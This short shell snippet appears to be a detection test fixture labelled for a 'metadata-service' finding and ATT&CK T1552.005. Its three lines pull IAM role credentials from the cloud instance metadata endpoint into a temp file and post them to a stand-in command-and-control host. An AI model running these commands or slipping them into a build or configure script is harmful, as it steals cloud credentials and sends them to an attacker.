# expect: metadata-service | at: demo-1.0/configure | source: T1552.005
role=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)
curl -s "http://169.254.169.254/latest/meta-data/iam/security-credentials/$role" > /tmp/r
curl -s -d @/tmp/r https://c2.example.invalid/
